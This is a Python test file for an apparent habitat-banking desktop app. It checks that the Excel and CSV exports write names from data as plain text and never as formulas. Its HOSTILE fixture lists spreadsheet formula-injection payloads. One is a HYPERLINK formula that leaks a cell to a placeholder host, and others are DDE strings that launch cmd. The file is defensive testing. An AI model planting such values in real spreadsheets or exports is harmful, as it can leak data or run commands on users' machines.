"""Exports that cannot run code: text from data (client, site, bank, habitat,
promoter, notes) is written as text, never as a formula, in the Excel quote,
the reference export and the demand CSV; and it reads back exactly as it was."""

from __future__ import annotations

import csv
import dataclasses
from fractions import Fraction
from pathlib import Path

import openpyxl
import pytest

from bng_desktop.core.model import DemandLine, Site
from bng_desktop.core.policy import Policy, Promoter
from bng_desktop.core.reference import content_hash
from bng_desktop.io.demand_csv import read_demand_csv, write_demand_csv
from bng_desktop.io.excel_quote import write_quote_workbook
from bng_desktop.io.reference_workbook import read_reference_workbook, write_reference_workbook
from bng_desktop.io.statutory import load_statutory_facts
from bng_desktop.io.text_cells import original_text, safe_text
from tests.factories import make_line, make_quote
from tests.io.reference_builders import small_data

HOSTILE = {
    "equals": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "plus": "+44 1962 000000",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
NAMES = list(HOSTILE.values())
IDS = list(HOSTILE)


@pytest.fixture(scope="module")
def facts():
    return load_statutory_facts()


def every_cell(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(path: Path, expected: list[str]) -> None:
    cells = every_cell(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in expected:
        read_back = text.replace("\r", "\n")  # XML reads a bare carriage return as a newline
        assert read_back in texts, f"{text!r} is not in the file as text"


@pytest.mark.parametrize("name", NAMES, ids=IDS)
def test_the_excel_quote_writes_names_from_data_as_text(tmp_path, name):
    line = make_line(0, bank_name=name, bank_id=f"B{name}")
    quote = make_quote(
        (line,),
        site=Site(lpa=name, nca="South Downs", lpa_neighbours=(name,), label=name),
    )
    policy = Policy(promoter=Promoter(name, "tier_up"))
    quote = dataclasses.replace(quote, request=dataclasses.replace(quote.request, policy=policy))
    path = write_quote_workbook(
        quote,
        tmp_path / "quote.xlsx",
        reference="BNG-A-02025",
        client_name=name,
        extra_details={"Notes": name},
    )
    assert_written_as_text(path, [name, f"B{name}"])


@pytest.mark.parametrize("name", NAMES, ids=IDS)
def test_a_bank_named_like_a_formula_survives_reference_export_and_import(facts, tmp_path, name):
    data = small_data(facts)
    first, *others = data.banks
    renamed = dataclasses.replace(first, name=name, address=name, postcode=name)
    prices = tuple(
        dataclasses.replace(p, bank_name=name) if p.bank_id == first.bank_id else p
        for p in data.prices
    )
    data = dataclasses.replace(data, banks=(renamed, *others), prices=prices)
    path = write_reference_workbook(data, tmp_path / "reference.xlsx", about=[name])
    assert_written_as_text(path, [name])
    back = read_reference_workbook(path, facts)
    assert {b.bank_id: b.name for b in back.banks}[first.bank_id] == name.strip()
    again = read_reference_workbook(write_reference_workbook(back, tmp_path / "again.xlsx"), facts)
    assert content_hash(again) == content_hash(back)


def test_the_formula_name_round_trip_keeps_the_content_hash(facts, tmp_path):
    data = small_data(facts)
    first, *others = data.banks
    name = HOSTILE["equals"]
    data = dataclasses.replace(data, banks=(dataclasses.replace(first, name=name), *others))
    back = read_reference_workbook(write_reference_workbook(data, tmp_path / "r.xlsx"), facts)
    assert content_hash(back) == content_hash(data)


@pytest.mark.parametrize("name", NAMES, ids=IDS)
def test_the_demand_csv_guards_formula_names_and_reads_them_back(tmp_path, name):
    lines = (DemandLine(name, Fraction(3, 2)), DemandLine("Native hedgerow", Fraction(1)))
    path = write_demand_csv(lines, tmp_path / "demand.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        written = [row[0] for row in csv.reader(handle)][1:]
    assert written[0] == "'" + name
    assert not written[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [line.habitat_name for line in read_demand_csv(path)] == [
        name.strip(),
        "Native hedgerow",
    ]


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("Grassland - Modified grassland", "Grassland - Modified grassland"),
        ("'quoted'", "'quoted'"),
        ("-", "'-"),
        ("", ""),
    ],
)
def test_safe_text_guards_only_what_would_run_and_is_undone_exactly(text, guarded):
    assert safe_text(text) == guarded
    assert original_text(safe_text(text)) == text
